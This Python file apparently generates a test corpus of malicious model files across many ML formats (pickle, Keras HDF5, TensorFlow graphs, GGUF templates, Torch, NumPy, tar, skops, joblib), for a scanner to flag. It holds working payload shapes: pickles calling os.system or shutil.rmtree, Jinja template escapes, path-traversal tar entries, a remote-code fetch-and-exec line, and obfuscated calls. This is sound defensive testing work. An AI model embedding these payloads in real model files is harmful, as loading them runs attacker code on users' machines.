"""Harm in models of other libraries, as strangers would write it from the formats' descriptions.

Sources: the specifications of each format; `tables/attributeset.py` of PyTables; the guides to the
security of TensorFlow and Keras; CVE-2025-1550, CVE-2025-8747, CVE-2025-9906, CVE-2025-49655.
"""

from __future__ import annotations

import base64
import bz2
import io
import json
import lzma
import pickle
import tarfile
import zlib
from collections.abc import Callable
from functools import partial

from ggufmodels import V3, sound
from hostile.build import NOT_CLEAN, Builder, Sample, archive, call, command, constant, npy
from skopsfiles import archive as skops
from skopsfiles import instance, method, node, operator
from skopsfiles import partial as partial_node
from smallnets import caffe, caffe_layer, mx_node, mx_symbol, prototxt
from tfgraphs import function, graph, meta_graph
from tfgraphs import node as tf_node
from tfjsmodels import graph as tfjs_graph
from tfjsmodels import group, layers
from tfjsmodels import model as tfjs
from tflitemodels import custom
from tflitemodels import model as tflite
from torchfiles import checkpoint, legacy, package

_CODE = base64.b64encode(b"\xe3" + bytes(40)).decode()
_CALLED = command()[2:]
_OBJECTS = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
_NUMBERS = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", bytes(8))
_LINES = b"(S'true'\nios\nsystem\n."


def _h5(fill: Callable[[object], object]) -> Builder:
    def build() -> bytes:
        import h5py

        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            fill(file)
        return out.getvalue()

    return build


def _attribute(name: str, value: bytes | str, on: str = "/") -> Builder:
    def fill(file: object) -> None:
        import numpy as np

        held = np.bytes_(value) if isinstance(value, bytes) else value
        file.require_group(on).attrs[name] = held

    return _h5(fill)


def _linked(where: str, name: str = "layers") -> Builder:
    def fill(file: object) -> None:
        import h5py

        file[name] = h5py.ExternalLink(where, "/")

    return _h5(fill)


def _stored(path: str) -> Builder:
    return _h5(lambda file: file.create_dataset("w", (8,), "u1", external=[(path, 0, 8)]))


_HDF5: dict[str, Builder] = {
    "a link to a system file": _linked("/etc/passwd"),
    "a link up": _linked("../../x.h5"),
    "a link deep in a group": _linked("/x.h5", "a/b/c"),
    "a link to another machine": _linked("//host/share/x.h5"),
    "data in a system file": _stored("/etc/passwd"),
    "data in a file up": _stored("../x.bin"),
    "a pickle as an attribute": _attribute("x", command()),
    "a pickle of lines as an attribute": _attribute("x", b"N0" + _LINES),
    "a pickle without a header": _attribute("x", b"I1\n0" + _CALLED, "g/h"),
    "a pickle with the first header": _attribute("CLASS", b"\x80\x00" + _CALLED),
    "a pickle as a dataset": _h5(
        lambda file: file.create_dataset("o", data=list(command()), dtype="u1")
    ),
}
_LAMBDA = {"class_name": "Lambda", "config": {"name": "l", "function": [_CODE, None, None]}}


def _keras_h5(*wrapped: object, **more: str) -> Builder:
    config = json.dumps({"class_name": "Sequential", "config": {"layers": list(wrapped)}})

    def fill(file: object) -> None:
        file.attrs["keras_version"] = "2.13.1"
        for name, value in ({"model_config": config} | more).items():
            file.attrs[name] = value

    return _h5(fill)


def _layer(module: str, name: str, config: object, **more: object) -> dict[str, object]:
    return {"module": module, "class_name": name, "config": config, **more}


_KERAS_H5: dict[str, Builder] = {
    "a lambda": _keras_h5(_LAMBDA),
    "a lambda in a wrapper": _keras_h5(
        _layer("keras.layers", "TimeDistributed", {"layer": _LAMBDA})
    ),
    "a lambda as version 3 writes it": _keras_h5(
        {
            "class_name": "Lambda",
            "config": {"function": {"class_name": "__lambda__", "config": {"code": _CODE}}},
        }
    ),
    "a lambda as the loss": _keras_h5(
        training_config=json.dumps(
            {"loss": {"class_name": "__lambda__", "config": {"code": _CODE}}}
        )
    ),
    "a function of the system": _keras_h5(_layer("os", "function", "system")),
    "a class of the system": _keras_h5(_layer("subprocess", "Popen", {"args": ["true"]})),
    "a function built in": _keras_h5(_layer("builtins", "exec", "1")),
    "a download": _keras_h5(_layer("keras.utils", "get_file", {"origin": "http://invalid/x"})),
    "the switch of safe mode": _keras_h5(
        _layer("keras.config", "function", "enable_unsafe_deserialization")
    ),
    "a wrapper that unpickles": _keras_h5(
        _layer("keras.layers", "TorchModuleWrapper", {"module": "x"})
    ),
    "a loader in the place of a class": _keras_h5(
        _layer(
            "keras.src.legacy.saving.legacy_h5_format", "load_model_from_hdf5", {"filepath": "x"}
        )
    ),
}
_OPERATIONS = (
    "WriteFile ReadFile PyFunc EagerPyFunc PyFuncStateless MatchingFiles WholeFileReaderV2 "
    "TextLineReaderV2 SaveDatasetV2 DebugIdentityV3 RpcCall"
).split()
_TFLITE = [*("Flex" + one for one in _OPERATIONS[:7]), "Acme", "TF_Exec", "Run", "ShellOp"]
_ESCAPES = (
    "{{ cycler.__init__.__globals__.os.popen('true') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages['__class__'] }}",
    "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'] }}",
    "{{ messages|map(attribute='__class__.__init__')|list }}",
    "{{ '{0.__class__}'.format(messages) }}",
    "{{ self._TemplateReference__context }}",
    "{{ joiner['__in' + 'it__'] }}",
    "{{ messages|sort(attribute='__init__.__globals__') }}",
    "{% set a = '__class__' %}{{ messages[a] }}",
)
_TREES: dict[str, Builder] = {
    "a symbol with an operator of its own": constant(mx_symbol(mx_node("Custom"))),
    **{
        f"a symbol with {op}": constant(mx_symbol(mx_node(op, attrs={"info": "0x4141"})))
        for op in ("_Native", "_NDArray", "_CustomFunction")
    },
}
_PYTHON = {
    "a call at import": b"import os\nos.system('true')\n",
    "a call in a class": b"class A:\n  import os\n  os.system('true')\n",
    "a call as a default": b"def f(x=__import__('os').system('true')): pass\n",
    "a call as a hint": b"def f(x: __import__('os').system('true')): pass\n",
    "code that was encoded": b"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    "code from the network": b"import urllib.request as u\nexec(u.urlopen('http://invalid/x').read())\n",
    "names that are put together": b"getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
    "a walrus": b"if (o := __import__('subprocess')) and o.run(['true']): pass\n",
    "a comprehension": b"[f('true') for f in [__import__('os').system]]\n",
    "a call far to the right": b"import json" + b" " * 500 + b";__import__('os').system('true')\n",
}
_SCRIPT = {
    "a file that is written": "torch.save(x, '/tmp/x')",
    "a file that is written by its operator": "ops.aten.save(x, '/tmp/x')",
    "a file that is mapped": "torch.from_file('/etc/passwd', False, 10)",
    "an operator of nobody": "ops.acme.run(x)",
    "an operator of nobody, overloaded": "ops.acme.run.out(x)",
    "an operator behind an alias": "ops.acme_ns.exec_(x)",
}


def _code(line: str) -> bytes:
    text = f"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return {line}\n"
    return checkpoint(**{"code/__torch__/m.py": text.encode()})


def _tar(name: str, data: bytes = b"x", kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.size = (
            kind,
            link,
            len(data) if kind == tarfile.REGTYPE else 0,
        )
        file.addfile(info, io.BytesIO(data))
    return out.getvalue()


_TARS = {
    "a name up": _tar("../x.sh"),
    "an absolute name": _tar("/etc/cron.d/x"),
    "a link up": _tar("l", kind=tarfile.SYMTYPE, link="../../etc"),
    "an absolute link": _tar("l", kind=tarfile.SYMTYPE, link="/etc/passwd"),
    "a hard link up": _tar("l", kind=tarfile.LNKTYPE, link="../x"),
    "a device": _tar("d", kind=tarfile.CHRTYPE),
    "a pickle": _tar("m.pkl", command()),
    "a pickle under another name": _tar("labels.txt", command()),
    "a zip with a pickle": _tar("m.zip", archive({"m.pkl": command()})),
    "a pickle that is packed": _tar("m.bin", zlib.compress(command())),
}
_SKOPS = {
    "a type of the system": node("TypeNode", "posix", "system"),
    "a function": node("FunctionNode", "os", "system", content="system"),
    "an object": node("ObjectNode", "subprocess", "Popen", content=None),
    "a partial of a function": partial_node(node("FunctionNode", "os", "system", content="system")),
    "a caller of methods": operator("methodcaller", "system", "true"),
    "another caller of methods": operator("methodcaller", "popen", "true"),
    "an operator from elsewhere": operator("system", "true", module="os"),
    "a method of a foreign object": method(instance("acme", "Thing"), "run"),
    "a method of the special ones": method(instance("sklearn.svm", "SVC"), "__reduce__"),
    "a made object": node("ReduceNode", "subprocess", "Popen", reduce={"args": []}, content=None),
}
_PACKED: dict[str, Callable[[bytes], bytes]] = {
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "lzma": partial(lzma.compress, format=lzma.FORMAT_ALONE),
    "zlib": zlib.compress,
    "joblib before 0.10": lambda data: (
        b"ZF" + hex(len(data)).ljust(19).encode() + zlib.compress(data)
    ),
}
_PICKLES = {
    "a command": command(),
    "a command in lines": _LINES,
    "an evaluation": call("builtins", "eval", "1"),
    "an import": call("importlib", "import_module", "x", protocol=4),
    "a deletion": call("shutil", "rmtree", "x", protocol=4),
    "a second stream": pickle.dumps({}) + command(),
    "code of the marshaller": call("marshal", "loads", b"N"),
    "a caller of methods": call("operator", "methodcaller", "system", "true"),
    "a process": call("psutil", "Popen", ["true"]),
    "an evaluation of pictures": call("PIL.ImageMath", "unsafe_eval", "1"),
}


def _all(family: str, file: str, what: dict[str, Builder], loader: str) -> tuple[Sample, ...]:
    return tuple(
        Sample(f"strangers, {family}, {file}: {title}", file, build, loader, NOT_CLEAN)
        for title, build in what.items()
    )


def _ready(what: dict[str, bytes]) -> dict[str, Builder]:
    return {title: constant(data) for title, data in what.items()}


def _tf(kind: str, wrap: Callable[[bytes], bytes]) -> dict[str, Builder]:
    found = {f"{kind} with {op}": wrap(graph(tf_node(op))) for op in _OPERATIONS}
    hidden = graph(tf_node("NoOp"), functions=(function("f", tf_node("WriteFile")),))
    return _ready(found | {f"{kind} with an operation in a function": wrap(hidden)})


STRANGERS_MODELS: tuple[Sample, ...] = (
    *_all("hdf5", "w.h5", _HDF5, "reads another file, or unpickles"),
    *_all("keras in hdf5", "m.h5", _KERAS_H5, "loading runs it"),
    *_all("tensorflow", "g.pb", _tf("a graph", bytes), "running does it"),
    *_all("tensorflow", "m.meta", _tf("a meta graph", meta_graph), "running does it"),
    *_all(
        "tensorflow as text",
        "graph.pbtxt",
        _ready({op: f'node {{ name: "a" op: "{op}" }}\n'.encode() for op in _OPERATIONS}),
        "running does it",
    ),
    *_all(
        "tflite",
        "m.tflite",
        {op: partial(tflite, codes=[custom(op)]) for op in _TFLITE},
        "the operator does it",
    ),
    *_all(
        "gguf",
        "m.gguf",
        {f"template {n}": partial(sound, V3, one) for n, one in enumerate(_ESCAPES)},
        "rendering escapes",
    ),
    *_all("mxnet", "m-symbol.json", _TREES, "the operator does it"),
    *_all(
        "caffe",
        "m.prototxt",
        _ready(
            {
                f"a layer of {one}": prototxt(
                    f'layer {{ type: "Python" python_param {{ module: "{one}" layer: "L" }} }}'
                )
                for one in ("os", "subprocess", "acme", "pickle", "runpy")
            }
        ),
        "imports the module",
    ),
    *_all(
        "caffe",
        "m.caffemodel",
        {
            f"a layer of {one}": partial(caffe, caffe_layer("Python", module=one, layer="L"))
            for one in ("os", "subprocess", "acme", "pickle", "runpy")
        },
        "imports the module",
    ),
    *_all(
        "torch package",
        "p.pt",
        {t: partial(package, {"m.py": c}) for t, c in _PYTHON.items()},
        "imports it",
    ),
    *_all(
        "torchscript",
        "m.pt",
        {t: partial(_code, c) for t, c in _SCRIPT.items()},
        "the method does it",
    ),
    *_all(
        "torch before zip",
        "m.bin",
        {t: partial(legacy, body=p) for t, p in _PICKLES.items()},
        "unpickles",
    ),
    *_all(
        "numpy",
        "a.npy",
        {t: constant(npy(_OBJECTS, p)) for t, p in _PICKLES.items()},
        "unpickles",
    ),
    *_all(
        "npz",
        "a.npz",
        {
            t: constant(archive({"a.npy": _NUMBERS, "b.npy": npy(_OBJECTS, p)}))
            for t, p in _PICKLES.items()
        },
        "unpickles",
    ),
    *_all("tar", "m.tar", _ready(_TARS), "writes elsewhere, or unpickles"),
    *_all("skops", "m.skops", {t: partial(skops, one) for t, one in _SKOPS.items()}, "calls it"),
    *_all(
        "tfjs",
        "model.json",
        {
            **{
                f"weights at {path}": constant(json.dumps(tfjs(layers(), group(path))).encode())
                for path in ("../x", "/etc/x", "http://invalid/x", "a/../../x", "C:\\x")
            },
            **{
                f"a graph with {op}": constant(
                    json.dumps(tfjs(tfjs_graph(op), group("w"))).encode()
                )
                for op in _OPERATIONS[:5]
            },
        },
        "reads elsewhere, or runs it",
    ),
    *(
        one
        for codec, packed in _PACKED.items()
        for one in _all(
            codec, "m.joblib", {t: constant(packed(p)) for t, p in _PICKLES.items()}, "unpickles"
        )
    ),
)
